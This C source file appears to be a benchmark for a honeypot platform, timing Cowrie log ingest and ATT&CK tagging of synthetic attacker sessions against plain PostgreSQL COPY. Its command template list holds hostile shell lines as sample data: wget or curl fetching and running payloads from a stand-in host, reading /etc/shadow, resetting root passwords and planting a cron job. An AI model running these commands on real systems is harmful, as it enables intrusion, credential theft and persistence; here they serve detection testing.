/* ttp_bench: the main way measured to committed rows, beside plain COPY of the same rows.
 *
 *   ttp_bench [--kafka HOST:PORT [--processes N]] [--sessions N] [--pairs N] [--batch N] [FILE.jsonl[.gz]...]
 *
 * Part 1 reads the Cowrie logs given (default: the project's sample) through decnetctl ingest. Part 2 tags N session
 * events that lie on the broker, then COPYs the rows that came out into a fresh table of identical definition, indexes
 * and foreign keys, the same rows per commit, by one connection; interleaved pairs, medians. Needs DECNET_TEST_PG (a
 * superuser's connection string) and DECNET_SOURCE_ROOT; `./run bench ttp` sets both.
 *
 * On the embedded broker the sessions lie there before the worker starts, and its own clock counts from its first record
 * to its last commit. With --kafka the workers are members of a group and wait; the clock counts from the first record
 * produced to the moment that all positions are committed, so producing is part of it; the events are encoded before. */
#include <errno.h>
#include <signal.h>
#include <spawn.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
#include <zlib.h>

#include "base/limits.h"
#include "base/time.h"
#include "bus/bus.h"
#include "event/event.h"
#include "repo/attackers.h"
#include "repo/migrate.h"
#include "repo/pg.h"

extern char **environ;

enum { ATTACKERS = 2000, COMMANDS_PER_SESSION = 8, PAIRS_MAX = 64, WAIT_MS = 60000 };

/* A session event as it is produced. */
typedef struct Record {
    char *key, *value;
    size_t key_bytes, value_bytes;
} Record;

typedef struct Bench {
    int64_t sessions, pairs, batch, processes;
    const char *kafka; /* bootstrap servers of an Apache Kafka, or NULL */
    pid_t workers[8];
    char folder[256], broker[128], database[512];
    Repo *repo;
    Config config;
    Record *records; /* one a session */
    pid_t broker_pid;
} Bench;

static void die(const char *what, const char *why)
{
    fprintf(stderr, "ttp_bench: %s: %s\n", what, why);
    exit(1);
}

/* --- programs --- */

static const char *program(const char *variable)
{
    const char *path = getenv(variable);
    if (!path)
        die(variable, "is not set; use ./run bench ttp");
    return path;
}

static pid_t start_program(const char *const *argv, const char *output)
{
    posix_spawn_file_actions_t actions;
    pid_t pid;

    posix_spawn_file_actions_init(&actions);
    posix_spawn_file_actions_addopen(&actions, 1, output, 0x241 /* O_WRONLY | O_CREAT | O_TRUNC */, 0600);
    posix_spawn_file_actions_adddup2(&actions, 1, 2);
    if (posix_spawn(&pid, argv[0], &actions, NULL, (char *const *)(uintptr_t)argv, environ) != 0)
        die(argv[0], strerror(errno));
    posix_spawn_file_actions_destroy(&actions);
    return pid;
}

static void read_file(const char *path, Buf *out)
{
    char chunk[4096];
    size_t n;
    FILE *f = fopen(path, "re");

    buf_clear(out);
    while (f && (n = fread(chunk, 1, sizeof(chunk), f)) > 0)
        buf_append(out, chunk, n);
    if (f)
        fclose(f);
}

static void run_program(const char *const *argv, const char *output, Buf *ret_output)
{
    int status = 0;
    pid_t pid = start_program(argv, output);

    waitpid(pid, &status, 0);
    read_file(output, ret_output);
    if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
        die(argv[0], ret_output->data ? ret_output->data : "failed");
}

/* --- database --- */

static void sql(Bench *b, const char *text)
{
    if (repo_script(b->repo, "bench", text) != 0)
        die("database", repo_error_text(b->repo));
}

static double number(Bench *b, const char *text)
{
    Statement s = {.name = "", .shape = SHAPE_ROW, .sql = text};
    cleanup(pgresult_freep) PGresult *result = NULL;
    double v = 0;

    /* An unnamed statement is prepared anew each time, which is what different texts need. */
    PGconn *c = repo_connection(b->repo);
    PQsetnonblocking(c, 0);
    result = PQexec(c, s.sql);
    PQsetnonblocking(c, 1);
    if (PQresultStatus(result) != PGRES_TUPLES_OK || !text_to_double(str_from(PQgetvalue(result, 0, 0)), &v))
        die("database", PQerrorMessage(c));
    return v;
}

static void create_database(Bench *b)
{
    const char *server = getenv("DECNET_TEST_PG");
    char name[64], create[128];
    RepoOptions options = {.application_name = "ttp_bench"};

    if (!server)
        die("DECNET_TEST_PG", "is not set; use ./run bench ttp");
    snprintf(name, sizeof(name), "ttp_bench_%d", (int)getpid());
    snprintf(create, sizeof(create), "CREATE DATABASE %s", name);
    PGconn *c = PQconnectdb(server);
    PGresult *r = PQexec(c, create);
    if (PQresultStatus(r) != PGRES_COMMAND_OK)
        die("database", PQerrorMessage(c));
    PQclear(r);
    PQfinish(c);
    snprintf(b->database, sizeof(b->database), "%s dbname=%s", server, name);
    options.conninfo = b->database;
    b->repo = repo_new(&options);
    if (repo_connect(b->repo) != 0 || migrate_up(b->repo, NULL, NULL) != 0)
        die("database", repo_error_text(b->repo));
}

/* --- broker and settings --- */

/* Topics of its own on an Apache Kafka. */
static void use_kafka(Bench *b)
{
    cleanup(buf_free) Buf out = {0};
    char prefix[64], log[300];

    snprintf(prefix, sizeof(prefix), "bench%d.", (int)getpid());
    snprintf(log, sizeof(log), "%s/topics.log", b->folder);
    setenv("DECNET_KAFKA_BOOTSTRAP_SERVERS", b->kafka, 1);
    setenv("DECNET_KAFKA_TOPIC_PREFIX", prefix, 1);
    run_program((const char *[]){program("DECNET_CTL_PROGRAM"), "topics", "create", NULL}, log, &out);
}

static void start_broker(Bench *b)
{
    char ready[300], log[300];
    Buf address = {0};

    snprintf(ready, sizeof(ready), "%s/broker.%lld", b->folder, (long long)clock_monotonic_us());
    snprintf(log, sizeof(log), "%s/broker.log", b->folder);
    b->broker_pid = start_program((const char *[]){program("DECNET_BROKER_PROGRAM"), "--ready-file", ready, NULL}, log);
    for (int i = 0; i < 200 && access(ready, F_OK) != 0; i++)
        usleep(20000);
    read_file(ready, &address);
    snprintf(b->broker, sizeof(b->broker), STR_FMT, STR_ARG(text_trim(buf_str(&address))));
    setenv("DECNET_KAFKA_BOOTSTRAP_SERVERS", b->broker, 1);
    buf_free(&address);
}

static void stop_broker(Bench *b)
{
    kill(b->broker_pid, SIGTERM);
    waitpid(b->broker_pid, NULL, 0);
}

static void set_environment(Bench *b)
{
    char text[600];
    const char *root = getenv("DECNET_SOURCE_ROOT");

    if (!root)
        die("DECNET_SOURCE_ROOT", "is not set; use ./run bench ttp");
    setenv("DECNET_CONFIG", "/dev/null", 1);
    setenv("DECNET_DATABASE", b->database, 1);
    snprintf(text, sizeof(text), "%s/workers/ttp/rules", root);
    setenv("DECNET_RULES_PATH", text, 1);
    snprintf(text, sizeof(text), "%s/workers/ttp/attack/enterprise-attack.json", root);
    setenv("DECNET_ATTACK_CATALOG", text, 1);
    setenv("DECNET_CACHE_DIR", b->folder, 1);
    snprintf(text, sizeof(text), "%lld", (long long)b->batch);
    setenv("DECNET_BATCH_RECORDS", text, 1);
}

static int by_value(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

static double median(double *values, size_t n)
{
    qsort(values, n, sizeof(*values), by_value);
    return n % 2 ? values[n / 2] : (values[n / 2 - 1] + values[n / 2]) / 2;
}

/* --- part 1: ingest --- */

static void bench_ingest(Bench *b, char **files, int n)
{
    cleanup(buf_free) Buf out = {0};
    char log[300], sample[600];
    const char *argv[64] = {program("DECNET_CTL_PROGRAM"), "ingest", "cowrie", "--json", "--idle-timeout=0", NULL};
    int argc = 5;

    snprintf(log, sizeof(log), "%s/ingest.log", b->folder);
    snprintf(sample, sizeof(sample), "%s/tests/samples/cowrie.jsonl.gz", getenv("DECNET_SOURCE_ROOT"));
    for (int i = 0; i < n && argc < 62; i++)
        argv[argc++] = files[i];
    if (n == 0)
        argv[argc++] = sample;
    int64_t start_us = clock_monotonic_us();
    run_program(argv, log, &out);
    double seconds = (double)(clock_monotonic_us() - start_us) / 1e6;
    double lines = number(b, "SELECT count(*) FROM logs WHERE event_type <> 'session_recorded'");
    double sessions = number(b, "SELECT count(*) FROM attacker_session");
    printf(
        "ingest    %.0f lines, %.0f sessions in %.2f s: %.0f lines/s, %.0f sessions/s to committed rows and published events\n",
        lines, sessions, seconds, lines / seconds, sessions / seconds);
}

/* The sample log as another sensor wrote it: other lines, other sessions, the same attackers. */
static void write_variant(const char *path, const char *name)
{
    cleanup(buf_free) Buf line = {0};
    char chunk[65536], sample[600], *field;
    gzFile in;
    FILE *out = fopen(path, "we");

    snprintf(sample, sizeof(sample), "%s/tests/samples/cowrie.jsonl.gz", getenv("DECNET_SOURCE_ROOT"));
    in = gzopen(sample, "rb");
    if (!in || !out)
        die(path, strerror(errno));
    while (gzgets(in, chunk, sizeof(chunk))) {
        buf_clear(&line);
        field = strstr(chunk, "\"sensor\":");
        if (field && (field = strchr(field + 9, '"'))) {
            buf_append(&line, chunk, (size_t)(field + 1 - chunk));
            buf_printf(&line, "%s%s", name, field + 1);
            fputs(line.data, out);
        }
    }
    gzclose(in);
    fclose(out);
}

static pid_t start_ingest(Bench *b, const char *name, char log[300])
{
    char path[300];

    snprintf(path, sizeof(path), "%s/%s.json", b->folder, name);
    snprintf(log, 300, "%s/%s.log", b->folder, name);
    write_variant(path, name);
    return start_program(
        (const char *[]){program("DECNET_CTL_PROGRAM"), "ingest", "cowrie", "--json", "--idle-timeout=0", path, NULL},
        log);
}

static void finish_ingest(pid_t pid, const char *log)
{
    cleanup(buf_free) Buf out = {0};
    int status;

    waitpid(pid, &status, 0);
    read_file(log, &out);
    if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
        die("decnetctl ingest", out.data ? out.data : "failed");
}

/* Ids of logs are monotone in commit order because inserts queue up behind one advisory lock; what that costs shows when
 * two ingesters run at once. Without any lock two would reach at most twice the rate, on two free cores. */
static void bench_log_lock(Bench *b)
{
    enum { ROUNDS = 5 };
    double one[ROUNDS], two[ROUNDS];
    char name[2][16], log[2][300];

    for (int i = 0; i < ROUNDS; i++) {
        for (int n = 1; n <= 2; n++) {
            pid_t pids[2];
            int64_t start_us = clock_monotonic_us();
            for (int k = 0; k < n; k++) {
                snprintf(name[k], sizeof(name[k]), "v%d-%d-%d-", i, n, k);
                pids[k] = start_ingest(b, name[k], log[k]);
            }
            for (int k = 0; k < n; k++)
                finish_ingest(pids[k], log[k]);
            *(n == 1 ? &one[i] : &two[i]) = n * 1e6 / (double)(clock_monotonic_us() - start_us);
        }
    }
    printf(
        "log order one ingester %.2f logs/s, two at once %.2f logs/s: ratio %.2f (2 would be without waiting for each other)\n",
        median(one, ROUNDS), median(two, ROUNDS), median(two, ROUNDS) / median(one, ROUNDS));
}

/* --- part 2: tagging --- */

static void attacker_ip_of(int64_t i, char out[IP_TEXT_BYTES])
{
    snprintf(out, IP_TEXT_BYTES, "198.18.%d.%d", (int)(i / 250), (int)(i % 250 + 1));
}

static void insert_attackers(Bench *b)
{
    sql(b, "BEGIN");
    for (int64_t from = 0; from < ATTACKERS; from += 500) {
        AttackerChange rows[500];
        char ips[500][IP_TEXT_BYTES];
        for (size_t i = 0; i < 500; i++) {
            attacker_ip_of(from + (int64_t)i, ips[i]);
            rows[i] = (AttackerChange){.ip = str_from(ips[i]),
                                       .uuid = attacker_uuid(ips[i]),
                                       .first_seen_us = 1,
                                       .last_seen_us = 2,
                                       .events = 1,
                                       .services = STR("[\"ssh\"]"),
                                       .deckies = STR("[\"bench\"]")};
        }
        if (attackers_add(b->repo, rows, 500) != 0)
            die("database", repo_error_text(b->repo));
    }
    sql(b, "COMMIT");
}

/* What sessions are made of: kinds of commands that attackers send, some with a number that makes them distinct. */
static const char *const templates[] = {
    "uname -a",         "cat /proc/cpuinfo",
    "whoami",           "cd /tmp || cd /var/run; wget http://203.0.113.%d/bins.sh; sh bins.sh",
    "cat /etc/passwd",  "free -m",
    "crontab -l",       "id",
    "ls -la",           "curl -O http://203.0.113.%d/x && chmod 777 x && ./x",
    "netstat -an",      "echo root:pw%d | chpasswd",
    "history -c",       "w",
    "ps aux",           "cat /etc/shadow",
    "ifconfig eth0",    "find / -perm -4000 -type f 2>/dev/null",
    "rm -rf /tmp/.x%d", "echo '* * * * * /tmp/.x%d' > /etc/cron.d/x"};

static void make_session(int64_t i, Buf *key, Buf *value)
{
    EventCommand commands[COMMANDS_PER_SESSION];
    char texts[COMMANDS_PER_SESSION][160], ids[COMMANDS_PER_SESSION][80], sid[UUID_TEXT_BYTES], name[32];
    SessionEnded s = {.has_attacker_uuid = false,
                      .decky_id = STR("bench"),
                      .service = STR("ssh"),
                      .n_commands = COMMANDS_PER_SESSION,
                      .n_commands_seen = COMMANDS_PER_SESSION,
                      .commands = commands,
                      .part = 1,
                      .parts = 1,
                      .ended_at_us = INT64_C(1770000000000000) + i * 1000,
                      .started_at_us = TIME_NONE,
                      .login_at_us = TIME_NONE,
                      .login_attempts = -1,
                      .src_port = -1,
                      .request_count = -1};

    snprintf(name, sizeof(name), "bench-%lld", (long long)i);
    Uuid u = uuid_v5(&UUID_NS_SESSION, str_from(name));
    uuid_format(sid, &u);
    attacker_ip_of(i % ATTACKERS, s.attacker_ip);
    s.session_id = str_from(sid);
    for (int k = 0; k < COMMANDS_PER_SESSION; k++) {
        const char *t = templates[(size_t)(i * 7 + k * 3) % ARRAY_SIZE(templates)];
        const char *hole = strstr(t, "%d");
        snprintf(texts[k], sizeof(texts[k]), "%.*s", hole ? (int)(hole - t) : (int)strlen(t), t);
        if (hole)
            snprintf(texts[k] + strlen(texts[k]), 80, "%d%s", (int)(i % 250), hole + 2);
        snprintf(ids[k], sizeof(ids[k]), "%s#%d", sid, k);
        commands[k] = (EventCommand){.text = str_from(texts[k]),
                                     .source_id = str_from(ids[k]),
                                     .ts_us = s.ended_at_us,
                                     .decky_id = s.decky_id,
                                     .user = STR("root"),
                                     .src = str_from(s.attacker_ip)};
    }
    Uuid id = session_ended_id(s.session_id, 1);
    buf_clear(key);
    buf_clear(value);
    buf_add(key, s.attacker_ip);
    session_ended_encode(&s, &id, value);
}

static void ignore_delivery(void *arg, void *opaque, int err)
{
    (void)opaque;
    *(int *)arg |= err;
}

static void encode_sessions(Bench *b)
{
    b->records = calloc((size_t)b->sessions, sizeof(*b->records));
    for (int64_t i = 0; i < b->sessions; i++) {
        Buf key = {0}, value = {0};
        make_session(i, &key, &value);
        b->records[i] = (Record){key.data, value.data, key.len, value.len};
    }
}

static void free_sessions(Bench *b)
{
    for (int64_t i = 0; i < b->sessions; i++) {
        free(b->records[i].key);
        free(b->records[i].value);
    }
    free(b->records);
}

static void produce_sessions(Bench *b)
{
    cleanup(freep) char *error = NULL;
    BusProducer *producer;
    int failed = 0;

    config_free(&b->config);
    if (config_load(&b->config, NULL, &error) != 0 ||
        bus_producer_open(&b->config, ignore_delivery, &failed, &producer, &error) != 0)
        die("Kafka", error);
    for (int64_t i = 0; i < b->sessions; i++) {
        const Record *r = &b->records[i];
        while (bus_producer_send(producer, &bus_topics[BUS_ATTACKER_SESSION_ENDED], (Str){r->key, r->key_bytes},
                                 (Str){r->value, r->value_bytes}, NULL, 0, NULL) == BUS_E_FULL)
            bus_producer_poll(producer, 10);
        bus_producer_poll(producer, 0);
    }
    if (bus_producer_flush(producer, WAIT_MS) != 0 || failed)
        die("Kafka", "the session events could not all be produced");
    bus_producer_close(producer);
}

typedef struct Shares {
    double busy_s, poll_s, match_s, transaction_s, wait_s, batches;
} Shares;

static bool read_shares(const char *log, Shares *s)
{
    const char *line = strstr(log, "busy ");
    return line && sscanf(line,
                          "busy %lf s from the first record to the last commit: poll %lf, decode and match %lf, "
                          "transactions %lf, of these waiting for PostgreSQL %lf; %lf batches",
                          &s->busy_s, &s->poll_s, &s->match_s, &s->transaction_s, &s->wait_s, &s->batches) == 6;
}

static void shares_add(Shares *sum, const Shares *s)
{
    sum->poll_s += s->poll_s;
    sum->match_s += s->match_s;
    sum->transaction_s += s->transaction_s;
    sum->wait_s += s->wait_s;
    sum->batches += s->batches;
}

/* Members of the group, until each has had its share. */
static void start_members(Bench *b)
{
    char log[300], instance[32];

    for (int64_t i = 0; i < b->processes; i++) {
        snprintf(log, sizeof(log), "%s/member.%d.log", b->folder, (int)i);
        snprintf(instance, sizeof(instance), "--instance=%d", (int)i);
        b->workers[i] = start_program((const char *[]){program("DECNET_TTP_PROGRAM"), instance, NULL}, log);
    }
    for (int i = 0; i < 600 && number(b, "SELECT count(*) FROM consumer_position") < 24; i++)
        usleep(100000);
    sleep(5); /* joins and shares settle */
}

/* What the members say of their time, together. */
static Shares end_members(Bench *b)
{
    cleanup(buf_free) Buf out = {0};
    char log[300];
    Shares sum = {0};

    for (int64_t i = 0; i < b->processes; i++)
        kill(b->workers[i], SIGTERM);
    for (int64_t i = 0; i < b->processes; i++) {
        Shares s = {0};
        waitpid(b->workers[i], NULL, 0);
        snprintf(log, sizeof(log), "%s/member.%d.log", b->folder, (int)i);
        read_file(log, &out);
        if (!read_shares(out.data ? out.data : "", &s))
            die("decnet-ttp", out.data ? out.data : "no log");
        shares_add(&sum, &s);
    }
    return sum;
}

static double tag_by_members(Bench *b)
{
    static const char positions[] =
        "SELECT COALESCE(sum(next_offset), 0) FROM consumer_position WHERE topic LIKE '%session.ended'";
    double goal = number(b, positions) + (double)b->sessions;

    sql(b, "TRUNCATE ttp_tag; CHECKPOINT");
    int64_t start_us = clock_monotonic_us();
    produce_sessions(b);
    while (number(b, positions) < goal)
        usleep(10000);
    return (double)(clock_monotonic_us() - start_us) / 1e6;
}

static Shares tag_all(Bench *b, int round)
{
    cleanup(buf_free) Buf out = {0};
    char log[300];
    Shares s = {0};

    sql(b, "TRUNCATE ttp_tag, event_outbox; DELETE FROM consumer_position; CHECKPOINT");
    snprintf(log, sizeof(log), "%s/ttp.%d.log", b->folder, round);
    run_program((const char *[]){program("DECNET_TTP_PROGRAM"), "--solo", "--once", NULL}, log, &out);
    if (!read_shares(out.data, &s))
        die("decnet-ttp", out.data);
    return s;
}

/* --- plain COPY --- */

#define TAG_COLUMNS                                                                                                    \
    "uuid, source_kind, source_id, attacker_uuid, identity_uuid, session_id, decky_id, tactic, technique_id,"          \
    " sub_technique_id, confidence, rule_id, rule_version, evidence, attack_release, mitre_url, created_at, observed_at"

typedef struct Rows {
    Buf *chunks;
    size_t n;
} Rows;

/* The rows in COPY's binary form, as many to a chunk as the worker committed at once, in the order of their insertion. */
static void fetch_rows(Bench *b, int64_t rows_per_commit, Rows *rows)
{
    PGconn *c = repo_connection(b->repo);
    double total = number(b, "SELECT count(*) FROM ttp_tag");

    sql(b, "DROP TABLE IF EXISTS bench_rows; CREATE UNLOGGED TABLE bench_rows AS"
           " SELECT row_number() OVER () - 1 AS n, t.* FROM ttp_tag t; CREATE INDEX ON bench_rows (n)");
    rows->n = (size_t)((total + (double)rows_per_commit - 1) / (double)rows_per_commit);
    rows->chunks = calloc(rows->n + 1, sizeof(*rows->chunks));
    PQsetnonblocking(c, 0);
    for (size_t i = 0; i < rows->n; i++) {
        char text[700], *data;
        int n;
        snprintf(text, sizeof(text),
                 "COPY (SELECT " TAG_COLUMNS
                 " FROM bench_rows WHERE n >= %lld AND n < %lld ORDER BY n) TO STDOUT (FORMAT binary)",
                 (long long)((int64_t)i * rows_per_commit), (long long)((int64_t)(i + 1) * rows_per_commit));
        PQclear(PQexec(c, text));
        while ((n = PQgetCopyData(c, &data, 0)) > 0) {
            buf_append(&rows->chunks[i], data, (size_t)n);
            PQfreemem(data);
        }
        while (PQgetResult(c))
            continue;
    }
}

static double copy_all(Bench *b, const Rows *rows)
{
    PGconn *c = repo_connection(b->repo);

    PQsetnonblocking(c, 1);
    sql(b, "DROP TABLE IF EXISTS bench_copy; CREATE TABLE bench_copy (LIKE ttp_tag INCLUDING ALL);"
           "ALTER TABLE bench_copy ADD FOREIGN KEY (attacker_uuid) REFERENCES attackers (uuid) ON DELETE CASCADE,"
           " ADD FOREIGN KEY (identity_uuid) REFERENCES attacker_identities (uuid) ON DELETE CASCADE; CHECKPOINT");
    PQsetnonblocking(c, 0);
    int64_t start_us = clock_monotonic_us();
    for (size_t i = 0; i < rows->n; i++) {
        PQclear(PQexec(c, "COPY bench_copy (" TAG_COLUMNS ") FROM STDIN (FORMAT binary)"));
        if (PQputCopyData(c, rows->chunks[i].data, (int)rows->chunks[i].len) != 1 || PQputCopyEnd(c, NULL) != 1)
            die("COPY", PQerrorMessage(c));
        PGresult *r = PQgetResult(c);
        if (PQresultStatus(r) != PGRES_COMMAND_OK)
            die("COPY", PQerrorMessage(c));
        PQclear(r);
        while (PQgetResult(c))
            continue;
    }
    double seconds = (double)(clock_monotonic_us() - start_us) / 1e6;
    PQsetnonblocking(c, 1);
    return seconds;
}

static void free_rows(Rows *rows)
{
    for (size_t i = 0; i < rows->n; i++)
        buf_free(&rows->chunks[i]);
    free(rows->chunks);
    *rows = (Rows){0};
}

static void print_shares(const Bench *b, const Shares *sum, double busy_s)
{
    printf(
        "time      waiting for PostgreSQL %.0f %%, decode and match %.0f %%, poll %.0f %%, the rest of transactions %.0f %%%s\n",
        100 * sum->wait_s / busy_s, 100 * sum->match_s / busy_s, 100 * sum->poll_s / busy_s,
        100 * (sum->transaction_s - sum->wait_s - sum->match_s - sum->poll_s) / busy_s,
        b->kafka ? " (of the time of all members)" : "");
}

static void bench_tagging(Bench *b)
{
    double ratios[PAIRS_MAX], tag_rates[PAIRS_MAX], copy_rates[PAIRS_MAX], tags = 0, busy_s = 0;
    size_t n = (size_t)b->pairs;
    Shares sum = {0};

    insert_attackers(b);
    encode_sessions(b);
    b->kafka ? start_members(b) : produce_sessions(b);
    for (int i = 0; i < b->pairs; i++) {
        Rows rows = {0};
        Shares s = {.batches = (double)b->sessions / (double)b->batch};
        if (b->kafka)
            s.busy_s = tag_by_members(b);
        else
            s = tag_all(b, i);
        tags = number(b, "SELECT count(*) FROM ttp_tag");
        fetch_rows(b, (int64_t)MAX(tags / s.batches, 1.0), &rows);
        double copy_s = copy_all(b, &rows);
        free_rows(&rows);
        tag_rates[i] = tags / s.busy_s;
        copy_rates[i] = tags / copy_s;
        ratios[i] = copy_s / s.busy_s;
        busy_s += s.busy_s;
        shares_add(&sum, &s);
        printf("pair %d    tagging %.3f s (%.0f tags/s), COPY %.3f s (%.0f rows/s), ratio %.2f\n", i + 1, s.busy_s,
               tag_rates[i], copy_s, copy_rates[i], ratios[i]);
        fflush(stdout);
    }
    if (b->kafka) {
        sum = end_members(b);
        busy_s *= (double)b->processes;
    }
    double rate = median(tag_rates, n);
    printf(
        "tagging   %lld process%s, %lld sessions, %.0f tags, batches of %.0f records: median %.0f sessions/s, %.0f tags/s to "
        "committed rows\n",
        (long long)b->processes, b->processes > 1 ? "es" : "", (long long)b->sessions, tags,
        (double)b->sessions * (double)n / sum.batches, rate * (double)b->sessions / tags, rate);
    printf("COPY      the same rows, the same rows per commit: median %.0f rows/s\n", median(copy_rates, n));
    printf("ratio     median %.2f (bars on Apache Kafka: 0.70 with one process, 1.10 with two)\n", median(ratios, n));
    print_shares(b, &sum, busy_s);
    free_sessions(b);
}

static void usage(void)
{
    fputs(
        "usage: ttp_bench [--kafka HOST:PORT [--processes N]] [--sessions N] [--pairs N] [--batch N] [FILE.jsonl[.gz]...]\n",
        stderr);
    exit(2);
}

int main(int argc, char **argv)
{
    Bench b = {.sessions = 20000, .pairs = 5, .batch = 1000, .processes = 1};
    const char *tmp = getenv("DECNET_TEST_TMP");
    struct {
        const char *name;
        int64_t *value, max;
    } options[] = {{"--sessions", &b.sessions, 50000},
                   {"--pairs", &b.pairs, PAIRS_MAX},
                   {"--batch", &b.batch, LIMIT_BATCH_RECORDS},
                   {"--processes", &b.processes, ARRAY_SIZE(b.workers)}};
    int first = 1;

    for (; first < argc && argv[first][0] == '-'; first += 2) {
        size_t k = 0;
        if (strcmp(argv[first], "--kafka") == 0 && first + 1 < argc) {
            b.kafka = argv[first + 1];
            continue;
        }
        while (k < ARRAY_SIZE(options) && strcmp(argv[first], options[k].name) != 0)
            k++;
        if (k == ARRAY_SIZE(options) || first + 1 >= argc ||
            !text_to_int64(str_from(argv[first + 1]), options[k].value) || *options[k].value < 1 ||
            *options[k].value > options[k].max)
            usage();
    }
    bus_init(NULL, NULL);
    snprintf(b.folder, sizeof(b.folder), "%s/ttp_bench.XXXXXX", tmp ? tmp : "/tmp");
    if (!mkdtemp(b.folder))
        die(b.folder, strerror(errno));
    create_database(&b);
    set_environment(&b);
    if (b.kafka) {
        use_kafka(&b);
        bench_tagging(&b);
    } else {
        start_broker(&b);
        bench_ingest(&b, argv + first, argc - first);
        bench_log_lock(&b);
        stop_broker(&b); /* a fresh one, so that only the bench's own sessions lie on it */
        start_broker(&b);
        bench_tagging(&b);
        stop_broker(&b);
    }
    repo_free(b.repo);
    config_free(&b.config);
    return 0;
}
